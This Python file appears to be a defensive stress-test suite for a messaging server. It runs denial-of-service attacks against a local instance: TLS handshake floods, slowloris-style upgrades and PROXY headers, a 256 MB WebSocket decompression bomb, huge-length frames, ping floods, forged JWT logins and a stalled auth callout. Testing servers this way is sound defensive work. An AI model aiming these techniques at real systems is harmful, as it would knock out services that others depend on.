"""Attacks before the login: TLS, WebSocket, PROXY headers, tokens, the authorization callout."""

from __future__ import annotations

import json
import select
import socket
import ssl
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import suppress

from doors import DIRECTORY, make_certificate

from attacks.attack import Victim, attack
from attacks.client import Client
from pyjs.testing.jwt import Key, account_token, operator_token, user_token

HANDSHAKES = 1_000
BOMB_SIZE = 256 << 20
UPGRADE = (
    b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate;"
    b" server_no_context_takeover; client_no_context_takeover\r\n\r\n"
)
FIN, RSV1, CONTINUATION, BINARY, PING = 0x80, 0x40, 0, 2, 9
LOGIN = b'CONNECT {"verbose":false}\r\n'


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


PORT = _free_port()
CERT, KEY = make_certificate(DIRECTORY)
WEBSOCKET = f'websocket {{ listen: "127.0.0.1:{PORT}", no_tls: true, compression: true }}\n'
ENCRYPTED = (
    f'websocket {{ listen: "127.0.0.1:{PORT}", handshake_timeout: "20s",'
    f' tls {{ cert_file: "{CERT}", key_file: "{KEY}" }} }}\n'
)


def _frame(payload: bytes, first: int = FIN | BINARY, size: int = -1) -> bytes:
    """Return a frame whose mask is zero and so changes nothing; `size` is the length that its header states."""
    size = len(payload) if size < 0 else size
    if size <= 125:
        return bytes((first, 0x80 | size)) + bytes(4) + payload
    if size < 1 << 16:
        return struct.pack(">BBH", first, 0x80 | 126, size) + bytes(4) + payload
    return struct.pack(">BBQ", first, 0x80 | 127, size) + bytes(4) + payload


def _packed(size: int, begin: bytes = b"") -> bytes:
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [stream.compress(begin)]
    parts += [stream.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    return b"".join(parts) + stream.flush(zlib.Z_SYNC_FLUSH)[:-4]


def _connected(victim: Victim, count: int, data: bytes) -> list[Client]:
    """Return connections to the WebSocket port that have queued `data`."""
    clients = []
    for _ in range(count):
        client = Client(PORT, victim.deadline, b"")
        client.queue(data)
        victim.adopt(client)
        clients.append(client)
    return clients


def _upgraded(victim: Victim, count: int, login: bytes = LOGIN) -> list[Client]:
    """Return connections after their WebSocket upgrade."""
    clients = _connected(victim, count, UPGRADE)
    # they have received the answer and INFO
    victim.drive(clients, lambda: all(client.bytes_in > 300 for client in clients))
    for client in clients:
        client.queue(_frame(login))
    return clients


def _until_closed(victim: Victim, clients: list[Client]) -> None:
    victim.drive(clients, lambda: all(client.closed for client in clients))
    victim.count(len(clients), sum(client.closed for client in clients))


# -- TLS -----------------------------------------------------------------------------------------------------------
class _Shaking:
    """One TLS handshake of a client, without blocking."""

    def __init__(self, context: ssl.SSLContext) -> None:
        self.sock = socket.create_connection(("127.0.0.1", PORT), 30)
        self.sock.setblocking(False)
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.object = context.wrap_bio(self.incoming, self.outgoing)
        self.done = self.failed = False
        self.step()

    def step(self) -> None:
        """Continue as far as the received input allows."""
        with suppress(BlockingIOError):
            data = self.sock.recv(65_536)
            self.failed = not data
            self.incoming.write(data)
        try:
            self.object.do_handshake()
            self.done = True
        except ssl.SSLWantReadError:
            pass
        self.sock.send(self.outgoing.read() or b"")


def _hello() -> bytes:
    """Return the first TLS record of a client."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="x").do_handshake()
    return outgoing.read()


@attack("1,000 TLS handshakes at once", config=ENCRYPTED)
def tls_storm(victim: Victim) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    shaking = {each.sock.fileno(): each for each in (_Shaking(context) for _ in range(HANDSHAKES))}
    poller = select.poll()
    for fd in shaking:
        poller.register(fd, select.POLLIN)
    left = set(shaking)
    while left and time.monotonic() < victim.deadline:
        for fd, _ in poller.poll(100):
            with suppress(OSError):
                shaking[fd].step()
            if shaking[fd].done or shaking[fd].failed:
                left.discard(fd)
                poller.unregister(fd)
    victim.count(HANDSHAKES, sum(each.done for each in shaking.values()))
    for each in shaking.values():
        each.sock.close()


@attack("1,000 connections with half a TLS handshake", config=ENCRYPTED.replace("20s", "3s"))
def tls_half(victim: Victim) -> None:
    hello = _hello()
    _until_closed(victim, _connected(victim, HANDSHAKES, hello[: len(hello) // 2]))


@attack("3,000 TLS handshakes whose clients leave after their first record", config=ENCRYPTED)
def tls_left(victim: Victim) -> None:
    hello = _hello()
    for _ in range(30):
        clients = _connected(victim, 100, hello)
        victim.drive(clients, lambda clients=clients: all(client.sent for client in clients))  # type: ignore[misc]
        for client in clients:
            client.close()
    victim.count(1, int(victim.client().fence()))


# -- upgrades ------------------------------------------------------------------------------------------------------
@attack("1,000 incomplete upgrade requests", config=WEBSOCKET)
def ws_half_upgrade(victim: Victim) -> None:
    _until_closed(victim, _connected(victim, 1_000, UPGRADE[:-2]))


@attack("1,000 upgrade requests of 60,000 bytes without an end", config=WEBSOCKET)
def ws_endless_upgrade(victim: Victim) -> None:
    head = UPGRADE[:-2] + b"".join(b"X-%d: %b\r\n" % (number, b"x" * 480) for number in range(120))
    _until_closed(victim, _connected(victim, 1_000, head))


@attack("2,000 upgrades at once", config=WEBSOCKET, wait_ms=100)
def ws_upgrades(victim: Victim) -> None:
    clients = _connected(victim, 2_000, UPGRADE)
    victim.drive(clients, lambda: all(client.bytes_in > 300 for client in clients))
    victim.count(len(clients), sum(client.bytes_in > 300 for client in clients))


# -- frames --------------------------------------------------------------------------------------------------------
@attack("40 WebSocket messages that inflate to 256 MB", config=WEBSOCKET)
def ws_bomb(victim: Victim) -> None:
    clients = _upgraded(victim, 40, b"")
    bomb = _frame(_packed(BOMB_SIZE, b"PUB a 250000000\r\n"), FIN | RSV1 | BINARY)
    for client in clients:
        client.queue(bomb)
    _until_closed(victim, clients)


@attack("10 WebSocket messages with a million empty compressed blocks", config=WEBSOCKET)
def ws_empty_blocks(victim: Victim) -> None:
    clients = _upgraded(victim, 10)
    blocks = _frame(b"\x00\x00\x00\xff\xff" * 1_000_000 + b"\x00", FIN | RSV1 | BINARY)
    for client in clients:
        client.queue(blocks + _frame(b"PING\r\n"))
    before = [client.bytes_in for client in clients]

    def answered() -> list[bool]:
        return [one.closed or one.bytes_in > size for one, size in zip(clients, before, strict=True)]

    victim.drive(clients, lambda: all(answered()))
    victim.count(len(clients), sum(answered()))


@attack("500 incomplete frames that claim a length of a terabyte", config=WEBSOCKET)
def ws_half_frames(victim: Victim) -> None:
    clients = _upgraded(victim, 500)
    for client in clients:
        client.queue(_frame(b"PUB a 900000\r\n" + b"x" * 60_000, size=1 << 40))
    victim.linger(clients, 2.0)
    victim.count(1, int(victim.client().fence()))


@attack("100 compressed messages that never end, 4 MB each", config=WEBSOCKET)
def ws_endless_message(victim: Victim) -> None:
    clients = _upgraded(victim, 100)
    part = _frame(b"x" * 65_000, CONTINUATION)
    for client in clients:
        client.queue(_frame(b"x", RSV1 | BINARY) + part * 64)
    victim.linger(clients, 3.0)
    victim.count(1, int(victim.client().fence()))


@attack("2,000,000 fragments of one byte on 4 connections", config=WEBSOCKET)
def ws_fragments(victim: Victim) -> None:
    clients = _upgraded(victim, 4)
    one = _frame(b"P", BINARY) + _frame(b"I", CONTINUATION) + _frame(b"N", CONTINUATION)
    one += _frame(b"G", CONTINUATION) + _frame(b"\r", CONTINUATION) + _frame(b"\n", FIN | CONTINUATION)
    for client in clients:
        client.queue(one * 83_333 + _frame(b"PING\r\n"))
    victim.drive(clients, lambda: all(client.sent for client in clients))
    victim.count(len(clients), sum(client.sent and not client.closed for client in clients))


@attack("500,000 WebSocket pings from a client that does not read", config=WEBSOCKET)
def ws_pings(victim: Victim) -> None:
    (client,) = _upgraded(victim, 1)
    client.reads = False
    client.queue(_frame(b"x" * 125, FIN | PING) * 500_000)
    victim.linger([client], 5.0)
    victim.count(1, int(victim.client().fence()))


@attack("50 WebSocket subscribers that do not read, and 128 MB for each", config=WEBSOCKET)
def ws_deaf(victim: Victim) -> None:
    clients = _upgraded(victim, 50, LOGIN + b"SUB a 1\r\nPING\r\n")
    victim.linger(clients, 0.5)
    for client in clients:
        client.reads = False
    sender = victim.client()
    payload = bytes(range(256)) * 400
    sender.queue(b"PUB a %d\r\n%b\r\n" % (len(payload), payload) * 1_300)
    victim.count(1, int(sender.fence()))
    victim.linger(clients, 1.0)


@attack("10 compressed messages of 500 KB to 300 WebSocket subscribers", config=WEBSOCKET)
def ws_fanout(victim: Victim) -> None:
    clients = _upgraded(victim, 300, LOGIN + b"SUB a 1\r\nPING\r\n")
    victim.linger(clients, 0.5)
    sender = victim.client()
    payload = bytes(each * each % 251 for each in range(500_000))
    before = [client.bytes_in for client in clients]
    for _ in range(10):
        sender.queue(b"PUB a %d\r\n%b\r\n" % (len(payload), payload))
        victim.drive([sender, *clients], lambda: sender.sent)
        victim.linger([sender, *clients], 0.5)
    got = [client.bytes_in - size > 1_000 for client, size in zip(clients, before, strict=True)]
    victim.count(len(clients), sum(got))


@attack(
    "100 WebSocket subscribers with their own subjects, each of which gets 1.4 MB in compressed messages of 7 KB",
    config=WEBSOCKET,
)
def ws_own(victim: Victim) -> None:
    clients = _upgraded(victim, 100, b"")
    for number, client in enumerate(clients):
        client.queue(_frame(LOGIN + b"SUB own.%d %d\r\nPING\r\n" % (number, number)))
    victim.linger(clients, 0.5)
    sender = victim.client()
    before = [client.bytes_in for client in clients]
    for part in range(200):
        for number in range(100):
            body = b"%d %d " % (part, number) * 20
            sender.queue(b"PUB own.%d %d\r\n%b\r\n" % (number, len(body) * 50, body * 50))
    victim.drive([sender, *clients], lambda: sender.sent)
    victim.count(1, int(sender.fence()))
    victim.linger(clients, 1.0)
    victim.count(100, sum(client.bytes_in > size for client, size in zip(clients, before, strict=True)))


@attack("500 clients that send frames byte by byte", config=WEBSOCKET)
def ws_slow(victim: Victim) -> None:
    clients = _upgraded(victim, 500, b"")
    for byte in _frame(LOGIN + b"PING\r\n"):
        for client in clients:
            client.queue(bytes((byte,)))
        victim.linger(clients, 0.05)
    victim.drive(clients, lambda: all(client.bytes_in > 400 for client in clients))
    victim.count(1, int(victim.client().fence()))


# -- PROXY ---------------------------------------------------------------------------------------------------------
PROXIED = "proxy_protocol: true\n"


def _dribble(victim: Victim, header: bytes, count: int, piece: int) -> list[Client]:
    clients = [victim.raw() for _ in range(count)]
    for start in range(0, len(header), piece):
        for client in clients:
            client.queue(header[start : start + piece])
        victim.linger(clients, 0.1)
    return clients


@attack("1,000 PROXY headers that are sent byte by byte and do not end", config=PROXIED)
def proxy_dribble(victim: Victim) -> None:
    _until_closed(victim, _dribble(victim, b"PROXY TCP4 192.0.2.1 192.0.2.2 1234", 1_000, 1))


@attack("500 PROXY headers of 64 KB that do not end", config=PROXIED)
def proxy_large(victim: Victim) -> None:
    header = b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\xff\xff" + bytes(60_000)
    _until_closed(victim, _dribble(victim, header, 500, 6_000))


# -- tokens and the callout ----------------------------------------------------------------------------------------
OPERATOR, SYSTEM, ACCOUNT, USER = Key("operator"), Key("account"), Key("account"), Key("user")
BEARER: Callable[[Key], str] = lambda key: user_token(ACCOUNT, key, bearer_token=True)  # noqa: E731
OPERATORS = (
    f"operator: {operator_token(OPERATOR, system_account=SYSTEM.public)}\nresolver: MEMORY\nresolver_preload {{\n"
    f"{SYSTEM.public}: {account_token(OPERATOR, SYSTEM)}\n{ACCOUNT.public}: {account_token(OPERATOR, ACCOUNT)}\n}}\n"
)
QUIET_BEARER = b'CONNECT {"verbose":false,"jwt":"%b"}\r\n' % BEARER(USER).encode()


def _refused(victim: Victim, count: int, connect: bytes) -> None:
    for _ in range(count // 200):
        clients = [victim.raw(connect + b"PING\r\n") for _ in range(200)]
        victim.drive(clients, lambda clients=clients: all(client.closed for client in clients))  # type: ignore[misc]
        victim.count(200, sum(client.closed and not client.pongs for client in clients))
        victim.leave()


@attack("4,000 logins with a token and a wrong signature", config=OPERATORS, connect=QUIET_BEARER)
def jwt_signatures(victim: Victim) -> None:
    fields = {"verbose": False, "jwt": user_token(ACCOUNT, USER), "sig": "A" * 86}
    _refused(victim, 4_000, b"CONNECT " + json.dumps(fields).encode() + b"\r\n")


@attack("4,000 logins with a token that another account signed", config=OPERATORS, connect=QUIET_BEARER)
def jwt_issuers(victim: Victim) -> None:
    fields = {"verbose": False, "jwt": user_token(Key("account"), USER, bearer_token=True)}
    _refused(victim, 4_000, b"CONNECT " + json.dumps(fields).encode() + b"\r\n")


@attack(
    "4,000 clients that log in with a valid token and leave at once", config=OPERATORS, connect=QUIET_BEARER
)
def jwt_visits(victim: Victim) -> None:
    for _ in range(20):
        clients = [victim.raw(QUIET_BEARER + b"PING\r\n") for _ in range(200)]
        victim.drive(
            clients, lambda clients=clients: all(client.pongs or client.closed for client in clients)
        )  # type: ignore[misc]
        victim.count(200, sum(client.pongs > 0 for client in clients))
        victim.leave()


@attack(
    "8,000 connections that never log in, until they are closed",
    config="authorization { user: a, password: b, timeout: 1 }\n",
    connect=b'CONNECT {"verbose":false,"user":"a","pass":"b"}\r\n',
    wait_ms=100,
)
def login_never(victim: Victim) -> None:
    for _ in range(4):
        _until_closed(victim, [victim.raw() for _ in range(2_000)])
        victim.leave()


CALLOUT = (
    "accounts { AUTH { users: [{user: auth, password: a}, {user: quiet, password: quiet}] } }\n"
    f"authorization {{ timeout: 1, auth_callout {{ issuer: {Key('account').public}, account: AUTH,"
    " auth_users: [auth, quiet] } }\n"
)
QUIET_USER = b'CONNECT {"verbose":false,"user":"quiet","pass":"quiet"}\r\n'


@attack("2,000 logins that wait for a service that does not answer", config=CALLOUT, connect=QUIET_USER)
def callout_silent(victim: Victim) -> None:
    service = victim.raw(
        b'CONNECT {"verbose":false,"user":"auth","pass":"a"}\r\nSUB $SYS.REQ.USER.AUTH 2\r\nPING\r\n'
    )
    service.run(lambda: service.pongs > 0)
    clients = [victim.raw(b'CONNECT {"user":"u","pass":"x"}\r\nPING\r\n') for _ in range(2_000)]
    victim.drive([service, *clients], lambda: all(client.closed for client in clients))
    victim.count(len(clients), sum(client.closed for client in clients))
